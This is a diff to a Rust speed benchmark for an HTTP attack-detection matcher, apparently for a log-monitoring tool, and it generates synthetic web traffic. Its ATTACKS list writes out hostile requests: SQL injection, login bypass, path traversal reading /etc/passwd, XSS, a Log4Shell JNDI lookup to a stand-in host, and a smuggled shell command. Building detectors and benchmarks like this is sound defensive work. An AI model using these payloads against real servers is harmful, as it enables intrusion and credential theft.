@@ -1,5 +1,8 @@
-//! Release-mode speed check of `Matcher::apply`: 200k realistic requests (about 99%
-//! benign), with the built-in pack alone and with the Sigma webserver rules added.
+//! Release-mode speed check of `Matcher::apply` on realistic traffic: 200k requests
+//! (about 99% benign: browser and crawler agents, search and internal referers, product,
+//! static-asset and search URLs; 1% attacks), with the built-in pack alone and with the
+//! Sigma webserver rules added. Prints on-CPU ns per request for the mix and for the
+//! benign requests alone (best of three passes, since the machine is shared).
 //!
 //! `cargo run --release -p kansoku-detect --example detect_speed [-- SIGMA_DIR]`
 
@@ -11,64 +14,146 @@ use kansoku_event::HttpRequest;
 
 const N: usize = 200_000;
 
-fn requests() -> Vec<HttpRequest> {
-    let benign_paths = [
-        "/",
-        "/index.html",
-        "/css/site.css?v=3",
-        "/js/app.min.js",
-        "/images/logo.png",
-        "/blog/2024/05/rust-tips.html",
-        "/search?q=red+shoes&page=2",
-        "/products/12345?color=blue&size=M",
-        "/api/v1/items?limit=20&offset=40",
-        "/favicon.ico",
-        "/login",
-        "/cart/add?id=998&qty=1",
-        "/news/article-5512.html?utm_source=twitter&utm_medium=social",
-        "/static/fonts/inter.woff2",
-        "/wp-content/uploads/2023/01/photo.jpg",
-        "/about-us",
-        "/contact?ref=footer",
-    ];
-    let attacks = [
-        "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
-        "/.env",
-        "/wp-config.php.bak",
-        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
-        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
-        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
-        "/?x=${jndi:ldap://x.example/a}",
-    ];
-    let agents = [
-        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
-        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
-        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
-    ];
-    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
-    let mut next = || {
-        seed ^= seed << 13;
-        seed ^= seed >> 7;
-        seed ^= seed << 17;
-        seed
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
+        items[self.next() as usize % items.len()]
+    }
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+}
+
+const AGENTS: &[&str] = &[
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
+];
+
+const WORDS: &[&str] = &[
+    "blue", "shoes", "red", "dress", "winter", "jacket", "kids", "sale", "leather", "bag",
+    "running", "women", "men", "coffee", "table", "lamp", "garden", "東京",
+];
+
+fn benign(rng: &mut Rng) -> (String, Option<String>) {
+    let target = match rng.below(14) {
+        0 => "/".to_string(),
+        1 => format!("/products/{}", rng.below(100_000)),
+        2 => format!(
+            "/static/app.{:x}.{}",
+            rng.below(1 << 20),
+            rng.pick(&["js", "css"])
+        ),
+        3 => format!(
+            "/search?q={}+{}&page={}",
+            rng.pick(WORDS),
+            rng.pick(WORDS),
+            1 + rng.below(5)
+        ),
+        4 => format!(
+            "/images/{}/{}.{}",
+            rng.pick(&["products", "banners", "thumbs"]),
+            rng.below(10_000),
+            rng.pick(&["jpg", "png", "webp"])
+        ),
+        5 => format!(
+            "/category/{}-{}?sort={}&page={}",
+            rng.pick(WORDS),
+            rng.pick(WORDS),
+            rng.pick(&["price_asc", "newest", "popular"]),
+            1 + rng.below(9)
+        ),
+        6 => format!(
+            "/api/v1/items?limit=20&offset={}&fields=id,name,price",
+            rng.below(50) * 20
+        ),
+        7 => format!(
+            "/blog/2024/{:02}/{}-{}-tips.html",
+            1 + rng.below(12),
+            rng.pick(WORDS),
+            rng.pick(WORDS)
+        ),
+        8 => "/favicon.ico".to_string(),
+        9 => format!("/cart/add?id={}&qty=1", rng.below(9_999)),
+        10 => format!(
+            "/news/article-{}.html?utm_source={}&utm_medium=social&utm_campaign=spring_sale",
+            rng.below(9_999),
+            rng.pick(&["twitter", "facebook", "newsletter"])
+        ),
+        11 => "/static/fonts/inter-var.woff2".to_string(),
+        12 => format!(
+            "/wp-content/uploads/2023/{:02}/IMG_{}.jpg",
+            1 + rng.below(12),
+            rng.below(9_999)
+        ),
+        _ => format!(
+            "/account/orders?status=shipped&from=2024-0{}-01",
+            1 + rng.below(9)
+        ),
     };
+    let referer = match rng.below(4) {
+        0 => None,
+        1 => Some(format!(
+            "https://www.google.com/search?q={}+{}&hl=en",
+            rng.pick(WORDS),
+            rng.pick(WORDS)
+        )),
+        _ => Some(format!(
+            "https://www.example.com/products/{}",
+            rng.below(100_000)
+        )),
+    };
+    (target, referer)
+}
+
+const ATTACKS: &[&str] = &[
+    "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+    "/.env",
+    "/wp-config.php.bak",
+    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
+    "/?x=${jndi:ldap://x.example/a}",
+    "/login?user=admin%27+OR+%271%27%3D%271",
+    "/ping?host=127.0.0.1;cat%20/etc/passwd",
+];
+
+fn requests() -> Vec<(HttpRequest, bool)> {
+    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
     (0..N)
         .map(|i| {
-            let r = next();
-            let target = if r % 100 == 0 {
-                attacks[(r / 100) as usize % attacks.len()]
+            let attack = rng.below(100) == 0;
+            let (target, referer) = if attack {
+                (rng.pick(ATTACKS).to_string(), None)
             } else {
-                benign_paths[(r >> 8) as usize % benign_paths.len()]
+                benign(&mut rng)
             };
-            let mut req = from_line(&format!("GET {target} HTTP/1.1"));
+            let method = if rng.below(20) == 0 { "POST" } else { "GET" };
+            let mut req = from_line(&format!("{method} {target} HTTP/1.1"));
             req.ts = i as i64 * 10_000;
-            req.src_ip = Some(format!("198.51.100.{}", r % 250));
-            req.user_agent = Some(agents[(r >> 16) as usize % agents.len()].to_string());
-            req.referer = (r % 3 == 0).then(|| "https://www.example.com/blog/".to_string());
+            req.src_ip = Some(format!("198.51.100.{}", rng.below(250)));
+            req.user_agent = Some(rng.pick(AGENTS).to_string());
+            req.referer = referer;
             req.host = Some("www.example.com".to_string());
-            req.status = Some(if r % 10 == 0 { 404 } else { 200 });
-            req
+            req.status = Some(match rng.below(20) {
+                0 => 404,
+                1 => 304,
+                _ => 200,
+            });
+            (req, attack)
         })
         .collect()
 }
@@ -79,35 +164,47 @@ fn thread_cpu_ns() -> Option<u64> {
     text.split_whitespace().next()?.parse().ok()
 }
 
-fn measure(name: &str, rules: &RuleSet, reqs: &[HttpRequest]) {
+/// Best-of-three on-CPU seconds for one pass of `apply` over `reqs`.
+fn time(rules: &RuleSet, reqs: &mut [HttpRequest]) -> (f64, usize) {
     let mut m = rules.matcher();
-    let mut work: Vec<HttpRequest> = reqs.to_vec();
-    // One warm-up pass grows the scratch buffers.
-    for r in work.iter_mut().take(1000) {
-        m.apply(r);
+    let mut best = f64::MAX;
+    let mut flagged = 0;
+    for _ in 0..3 {
+        let start = Instant::now();
+        let cpu0 = thread_cpu_ns();
+        for r in reqs.iter_mut() {
+            // Matching is idempotent, so repeated passes over the same requests are fair.
+            m.apply(r);
+        }
+        let wall = start.elapsed().as_secs_f64();
+        let secs = match (cpu0, thread_cpu_ns()) {
+            (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
+            _ => wall,
+        };
+        best = best.min(secs);
+        flagged = reqs.iter().filter(|r| !r.categories.is_empty()).count();
     }
-    let mut work2: Vec<HttpRequest> = reqs.to_vec();
-    let start = Instant::now();
-    let cpu0 = thread_cpu_ns();
-    let mut flagged = 0usize;
-    for r in work2.iter_mut() {
-        m.apply(r);
-        flagged += usize::from(!r.categories.is_empty());
-    }
-    let wall = start.elapsed().as_secs_f64();
-    // Prefer on-CPU time when the kernel reports it.
-    let secs = match (cpu0, thread_cpu_ns()) {
-        (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
-        _ => wall,
-    };
+    (best, flagged)
+}
+
+fn measure(name: &str, rules: &RuleSet, reqs: &[(HttpRequest, bool)]) {
+    let mut all: Vec<HttpRequest> = reqs.iter().map(|(r, _)| r.clone()).collect();
+    let mut benign: Vec<HttpRequest> = reqs
+        .iter()
+        .filter(|(_, a)| !a)
+        .map(|(r, _)| r.clone())
+        .collect();
+    let (secs, flagged) = time(rules, &mut all);
+    let (bsecs, bflagged) = time(rules, &mut benign);
     println!(
-        "{name:<18} rules {:>4}  {:>10.0} requests/s per core  {:>6.0} ns/request (cpu; wall {:.0} ns)  flagged {flagged}",
+        "{name:<16} rules {:>4}  mix {:>5.0} ns/request ({:>7.0} req/s/core, flagged {flagged} of {})  benign {:>5.0} ns/request (flagged {bflagged} of {})",
         rules.rules().len(),
-        reqs.len() as f64 / secs,
-        secs * 1e9 / reqs.len() as f64,
-        wall * 1e9 / reqs.len() as f64
+        secs * 1e9 / all.len() as f64,
+        all.len() as f64 / secs,
+        all.len(),
+        bsecs * 1e9 / benign.len() as f64,
+        benign.len(),
     );
-    drop(work);
 }
 
 fn main() -> Result<(), Box<dyn std::error::Error>> {
